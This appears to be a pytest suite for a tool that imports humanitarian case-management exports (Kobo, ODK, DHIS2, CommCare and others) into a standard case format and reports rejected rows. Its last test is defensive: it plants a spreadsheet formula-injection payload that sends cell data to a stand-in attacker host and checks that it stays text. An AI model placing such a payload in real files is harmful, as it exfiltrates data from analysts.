"""`ona import`: partner exports (Kobo XLSX, ODK Central ZIP, Primero XLSX, CommCare XLSX,
DHIS2 Tracker JSON, a hand-kept Windows-1251 CSV)
through the shipped mappings into standard cases, and rejects that trace each problem back to
its sheet, row and column.

The fixtures in tests/fixtures/import are written by scripts/import_fixtures/generate.py from
ona-synth data, which also writes the cases each fixture must give back ("truth").
Primero's form sheets join their case one to one (`into = ""`), its subforms as lists.
"""
import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT, read_jsonl

FIXTURES = ROOT / "tests" / "fixtures" / "import"
MAPPINGS = ROOT / "examples" / "mappings"
EXPORTS = {"kobo-tr": "kobo-tr.xlsx", "odk-my": "odk-my.zip", "primero-uz": "primero-uz.xlsx",
           "excel-ua": "excel-ua.csv", "commcare-my": "commcare-my.xlsx", "dhis2-kz": "dhis2-kz.json"}


@pytest.fixture(scope="module")
def regenerated(ona_bin, tmp_path_factory):
    """The fixtures and their truth, generated afresh."""
    out = tmp_path_factory.mktemp("fixtures")
    subprocess.run([sys.executable, str(ROOT / "scripts/import_fixtures/generate.py"),
                    "--ona", ona_bin, "--out", str(out), "--truth", str(out)], check=True)
    return out


def digest(p):
    return hashlib.sha256(Path(p).read_bytes()).hexdigest()


def test_committed_fixtures_are_what_the_generator_writes(regenerated):
    # The generator is deterministic and the committed fixtures are current: a change to
    # either shows here.
    for name in list(EXPORTS.values()) + ["excel-ua.planted.json", "dhis2-kz.metadata.json"]:
        assert digest(FIXTURES / name) == digest(regenerated / name), name


def run_import(ona, tmp_path, name, *extra):
    out, rejects = tmp_path / f"{name}.jsonl", tmp_path / f"{name}.rejects.jsonl"
    res = ona("import", "--mapping", MAPPINGS / f"{name}.toml", "--in", FIXTURES / EXPORTS[name],
              "--out", out, "--rejects", rejects, *extra, check=False)
    return res, out, rejects


@pytest.mark.parametrize("name", ["kobo-tr", "odk-my", "primero-uz", "commcare-my", "dhis2-kz"])
def test_system_exports_import_into_exactly_the_cases_they_hold(ona, tmp_path, regenerated, name):
    res, out, rejects = run_import(ona, tmp_path, name)
    assert res.returncode == 0, res.stderr
    assert read_jsonl(rejects) == []
    got = read_jsonl(out)
    want = read_jsonl(regenerated / f"{name}.truth.jsonl")
    assert len(got) == len(want) >= 200
    for g, w in zip(got, want):
        assert g == w, f"case {w['id']}"
    assert f"{len(want)} rows: {len(want)} cases" in res.stderr
    # Every case also passes `ona validate` on its own.
    assert ona("validate", out, check=False).returncode == 0


def test_kobo_fixture_has_repeats_select_multiples_and_turkish_text(regenerated):
    cases = read_jsonl(regenerated / "kobo-tr.truth.jsonl")
    assert sum(len(c["children"]) > 1 for c in cases) > 0
    assert sum(len(c["services"]) for c in cases) > len(cases)
    assert any(len(r["risk_factors"]) > 1 for c in cases for r in c["risk_assessments"])
    assert any(ch in json.dumps(cases, ensure_ascii=False) for ch in "ğışİ")


def test_commcare_fixture_has_split_select_multiples_repeats_and_malay_text(regenerated):
    import zipfile
    book = zipfile.ZipFile(FIXTURES / "commcare-my.xlsx")
    names = book.read("xl/workbook.xml").decode()
    assert 'name="Forms"' in names and 'name="Repeat anak"' in names
    sheets = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert "form.anak.health_conditions | premature".encode() in sheets
    assert b"number__0" in sheets and "tidak".encode() in sheets
    cases = read_jsonl(regenerated / "commcare-my.truth.jsonl")
    assert sum(len(c["children"]) > 1 for c in cases) > 0
    assert sum(len(c["services"]) for c in cases) > len(cases)
    assert any(len(ch.get("health_conditions", [])) > 1 for c in cases for ch in c["children"])


def test_dhis2_fixture_is_tracker_json_with_uids_and_cyrillic_text(regenerated):
    export = json.loads((FIXTURES / "dhis2-kz.json").read_text(encoding="utf-8"))
    te = export["trackedEntities"]
    assert len(te) == 220 and all(len(t["enrollments"]) == 1 for t in te)
    events = [e for t in te for e in t["enrollments"][0]["events"]]
    assert len({e["programStage"] for e in events}) == 3
    values = [v["value"] for e in events for v in e["dataValues"]]
    assert any("," in v and v.isupper() for v in values), "MULTI_TEXT option codes"
    cases = read_jsonl(regenerated / "dhis2-kz.truth.jsonl")
    assert sum(len(c["children"]) > 1 for c in cases) > 0
    assert any(ch in json.dumps(cases, ensure_ascii=False) for ch in "абвгдежз")


def dhis2_variant(tmp_path, change):
    """A copy of the DHIS2 fixture with `change` applied to its parsed JSON."""
    export = json.loads((FIXTURES / "dhis2-kz.json").read_text(encoding="utf-8"))
    change(export["trackedEntities"])
    path = tmp_path / "dhis2.json"
    path.write_text(json.dumps(export, ensure_ascii=False), encoding="utf-8")
    return path


def test_dhis2_bad_option_code_and_second_enrollment_are_rejects_with_their_place(ona, tmp_path):
    sex_uid = None

    def spoil(te):
        nonlocal sex_uid
        # A child event of the 4th person carries an option code the standard lacks.
        child = [e for e in te[3]["enrollments"][0]["events"]
                 if any(v["value"] in ("FEMALE", "MALE") for v in e["dataValues"])][0]
        dv = [v for v in child["dataValues"] if v["value"] in ("FEMALE", "MALE")][0]
        sex_uid, dv["value"] = dv["dataElement"], "ДЕВОЧКА?"
        # The 10th person is enrolled twice: which enrollment is the case is for a person.
        second = json.loads(json.dumps(te[9]["enrollments"][0]))
        second["enrollment"] = "XXXXXXXXXXX"
        second["events"] = []
        te[9]["enrollments"].append(second)

    path = dhis2_variant(tmp_path, spoil)
    out, rejects = tmp_path / "o.jsonl", tmp_path / "r.jsonl"
    res = ona("import", "--mapping", MAPPINGS / "dhis2-kz.toml", "--in", path, "--out", out,
              "--rejects", rejects, check=False)
    assert res.returncode == 1
    rejected = read_jsonl(rejects)
    assert len(rejected) == 2 and len(read_jsonl(out)) == 218
    problems = {p["code"]: p for r in rejected for p in r["problems"]}
    bad = problems["unmapped_value"]
    assert bad["column"] == sex_uid and bad["value"] == "ДЕВОЧКА?"
    assert bad["pointer"].startswith("/children/") and bad["pointer"].endswith("/sex")
    twice = problems["duplicate_key"]
    assert twice["sheet"] == "enrollments" and twice["column"] == "trackedEntity"


@pytest.mark.parametrize("name", ["commcare-my", "dhis2-kz"])
def test_mapping_check_on_the_shipped_mappings_leaves_no_value_unread(ona, name):
    res = ona("mapping", "check", "--mapping", MAPPINGS / f"{name}.toml",
              "--in", FIXTURES / EXPORTS[name], check=False)
    assert res.returncode == 0, res.stdout
    assert "unmapped values: 0" in res.stdout


def test_mapping_check_lists_each_unread_dhis2_value_with_its_count(ona, tmp_path):
    def spoil(te):
        # Two people referred by a source the option set of this partner has but the
        # standard lacks; one with a misspelt code.
        for n, value in [(5, "MOSQUE"), (6, "MOSQUE"), (7, "POLCE")]:
            intake = te[n]["enrollments"][0]["events"][0]
            intake["dataValues"][0]["value"] = value

    path = dhis2_variant(tmp_path, spoil)
    res = ona("mapping", "check", "--mapping", MAPPINGS / "dhis2-kz.toml", "--in", path,
              check=False)
    assert res.returncode == 1
    lines = [l for l in res.stdout.splitlines() if "×" in l]
    assert len(lines) == 2, res.stdout
    [mosque] = [l for l in lines if '"MOSQUE"' in l]
    assert '"MOSQUE" ×2 (first in row 7)' in mosque, mosque
    assert any('"POLCE" ×1 (first in row 9)' in l for l in lines), lines
    assert "police" in res.stdout, "the codes to choose from"


def test_dhis2_not_tracker_json_is_a_clear_error(ona, tmp_path):
    path = tmp_path / "x.json"
    path.write_text('{"dataValues": []}', encoding="utf-8")
    out = tmp_path / "o.jsonl"
    res = ona("import", "--mapping", MAPPINGS / "dhis2-kz.toml", "--in", path, "--out", out,
              check=False)
    assert res.returncode == 2 and "DHIS2" in res.stderr and not out.exists()


def test_planted_errors_are_each_reported_once_at_their_row_and_column(ona, tmp_path, regenerated):
    res, out, rejects = run_import(ona, tmp_path, "excel-ua")
    assert res.returncode == 1, "rows were rejected: exit 1"
    planted = json.loads((FIXTURES / "excel-ua.planted.json").read_text(encoding="utf-8"))
    rejected = read_jsonl(rejects)
    problems = [p for r in rejected for p in r["problems"]]
    found = sorted((p["row"], p["column"], p["value"], p["code"]) for p in problems)
    expected = sorted((p["row"], p["column"], p["value"], p["code"]) for p in planted)
    assert found == expected
    assert {r["row"] for r in rejected} == {p["row"] for p in planted}
    assert all(p["sheet"] == "excel-ua" and p["message"] for p in problems)
    # Every other row imports into the case it holds: nothing dropped, nothing invented.
    want = [t for t in read_jsonl(regenerated / "excel-ua.truth.jsonl") if t is not None]
    assert read_jsonl(out) == want
    assert len(want) + len(rejected) == 220


def test_messages_in_the_requested_language(ona, tmp_path):
    _, _, rejects = run_import(ona, tmp_path, "excel-ua", "--lang", "ru")
    msgs = {p["code"]: p["message"] for r in read_jsonl(rejects) for p in r["problems"]}
    assert "не является датой" in msgs["unreadable_date"]
    assert "DD.MM.YYYY" in msgs["unreadable_date"]
    assert "не является ни кодом" in msgs["unmapped_value"]


def test_a_mapping_that_names_a_missing_column_fails_before_writing(ona, tmp_path):
    mapping = (MAPPINGS / "excel-ua.toml").read_text(encoding="utf-8").replace(
        '"Телефон" =', '"Телефон мобильный" =')
    m = tmp_path / "m.toml"
    m.write_text(mapping, encoding="utf-8")
    out = tmp_path / "cases.jsonl"
    res = ona("import", "--mapping", m, "--in", FIXTURES / "excel-ua.csv", "--out", out, check=False)
    assert res.returncode == 2
    assert "Телефон мобильный" in res.stderr
    assert not out.exists()


def test_a_field_the_standard_lacks_is_a_mapping_error(ona, tmp_path):
    m = tmp_path / "m.toml"
    m.write_text((MAPPINGS / "excel-ua.toml").read_text(encoding="utf-8").replace(
        '"/mother/phone"', '"/mother/telephone"'), encoding="utf-8")
    res = ona("import", "--mapping", m, "--in", FIXTURES / "excel-ua.csv",
              "--out", tmp_path / "o.jsonl", check=False)
    assert res.returncode == 2 and "/mother/telephone" in res.stderr


def test_the_input_is_never_overwritten(ona, tmp_path):
    copy = tmp_path / "excel-ua.csv"
    copy.write_bytes((FIXTURES / "excel-ua.csv").read_bytes())
    before = digest(copy)
    res = ona("import", "--mapping", MAPPINGS / "excel-ua.toml", "--in", copy, "--out", copy,
              check=False)
    assert res.returncode == 2 and digest(copy) == before


def test_a_repeat_row_without_its_parent_is_rejected_not_dropped(ona, tmp_path):
    import zipfile
    src = zipfile.ZipFile(FIXTURES / "odk-my.zip")
    broken = tmp_path / "odk.zip"
    with zipfile.ZipFile(broken, "w") as z:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("-services.csv"):
                lines = data.decode().splitlines(keepends=True)
                lines[5] = lines[5].replace("uuid:", "uuid:gone-", 1)
                data = "".join(lines).encode()
            z.writestr(info.filename, data)
    out, rejects = tmp_path / "o.jsonl", tmp_path / "r.jsonl"
    res = ona("import", "--mapping", MAPPINGS / "odk-my.toml", "--in", broken, "--out", out,
              "--rejects", rejects, check=False)
    assert res.returncode == 1
    [orphan] = read_jsonl(rejects)
    assert orphan["sheet"] == "rumah_ibu_intake-services.csv" and orphan["row"] == 6
    assert orphan["problems"][0]["code"] == "orphan_row"
    assert orphan["problems"][0]["column"] == "PARENT_KEY"
    assert len(read_jsonl(out)) == 220


def test_mapping_check_lists_every_value_no_rule_reads(ona):
    res = ona("mapping", "check", "--mapping", MAPPINGS / "excel-ua.toml",
              "--in", FIXTURES / "excel-ua.csv", check=False)
    assert res.returncode == 1, "unread values: exit 1"
    planted = json.loads((FIXTURES / "excel-ua.planted.json").read_text(encoding="utf-8"))
    # Values the mapping cannot read (the others are valid cells that fail the standard's rules).
    unread = [p for p in planted
              if p["code"] in {"unmapped_value", "unreadable_date", "not_a_number", "not_a_boolean"}]
    lines = [l for l in res.stdout.splitlines() if "×" in l]
    assert len(lines) == len(unread)
    for p in unread:
        [line] = [l for l in lines if f"column {json.dumps(p['column'], ensure_ascii=False)}" in l]
        assert f"(first in row {p['row']})" in line and json.dumps(p["value"], ensure_ascii=False) in line
    assert "female, male, unknown" in res.stdout, "the codes to choose from"
    assert 'column "Комментарий": 0 rows filled' in res.stdout


@pytest.mark.parametrize("name,centre,extra", [
    ("kobo-tr", {"id": "tr-istanbul-01", "organisation/id": "anne-evi",
                 "organisation/name": "Anne Evi", "country": "TR", "admin1": "TR-34",
                 "settlement": "İstanbul"}, []),
    ("odk-my", {"id": "my-kl-01", "organisation/id": "rumah-ibu",
                "organisation/name": "Rumah Ibu", "country": "MY", "admin1": "MY-14",
                "settlement": "Kuala Lumpur"}, []),
    ("dhis2-kz", {"id": "kz-almaty-01", "organisation/id": "ana-uyi",
                  "organisation/name": "Ana Uyi", "country": "KZ", "admin1": "KZ-75",
                  "settlement": "Алматы"},
     ["--metadata", str(FIXTURES / "dhis2-kz.metadata.json")]),
])
def test_mapping_init_then_the_centre_is_all_a_person_must_add(ona, tmp_path, name, centre, extra):
    m = tmp_path / "guessed.toml"
    res = ona("mapping", "init", "--in", FIXTURES / EXPORTS[name], "--out", m, *extra)
    assert "marked for review" in res.stderr
    text = m.read_text(encoding="utf-8")
    assert text.count("# review:") > 30
    for k, v in centre.items():
        text = text.replace(f'"/centre/{k}" = ""', f'"/centre/{k}" = "{v}"')
    m.write_text(text, encoding="utf-8")
    out = tmp_path / "cases.jsonl"
    res = ona("import", "--mapping", m, "--in", FIXTURES / EXPORTS[name], "--out", out, check=False)
    assert res.returncode == 0, res.stderr[-3000:]
    assert len(read_jsonl(out)) == 220
    # init never overwrites a mapping
    again = ona("mapping", "init", "--in", FIXTURES / EXPORTS[name], "--out", m, check=False)
    assert again.returncode == 2 and m.read_text(encoding="utf-8") == text


def test_cases_to_xlsx_and_back_is_byte_identical(ona, synth_cases, tmp_path):
    book, back = tmp_path / "cases.xlsx", tmp_path / "back.jsonl"
    ona("cases-to-xlsx", "--in", synth_cases, "--out", book)
    import zipfile
    sheets = zipfile.ZipFile(book).read("xl/workbook.xml").decode()
    for name in ["cases", "children", "services", "risk_assessments", "follow_ups"]:
        assert f'name="{name}"' in sheets
    ona("import", "--mapping", MAPPINGS / "ona-workbook.toml", "--in", book, "--out", back)
    assert back.read_bytes() == Path(synth_cases).read_bytes()


def test_cases_to_xlsx_refuses_an_invalid_case_and_writes_nothing(ona, tmp_path):
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"schema_version": "1.0", "id": "x"}\n', encoding="utf-8")
    out = tmp_path / "out.xlsx"
    res = ona("cases-to-xlsx", "--in", bad, "--out", out, check=False)
    assert res.returncode == 1 and "line 1" in res.stderr and not out.exists()


def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(ona, synth_cases, tmp_path):
    # Attacker: someone who registers a case under a "name" that Excel would run as a formula
    # (e.g. to send the sheet's contents to a web address when an analyst opens it).
    case = json.loads(Path(synth_cases).read_text(encoding="utf-8").splitlines()[0])
    case["mother"]["name"]["given"] = '=HYPERLINK("http://attacker.invalid/?"&B2,"click")'
    src = tmp_path / "one.jsonl"
    src.write_text(json.dumps(case, ensure_ascii=False) + "\n", encoding="utf-8")
    book, back = tmp_path / "one.xlsx", tmp_path / "back.jsonl"
    ona("cases-to-xlsx", "--in", src, "--out", book)
    import zipfile
    z = zipfile.ZipFile(book)
    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    ona("import", "--mapping", MAPPINGS / "ona-workbook.toml", "--in", book, "--out", back)
    assert read_jsonl(back)[0]["mother"]["name"]["given"] == case["mother"]["name"]["given"]
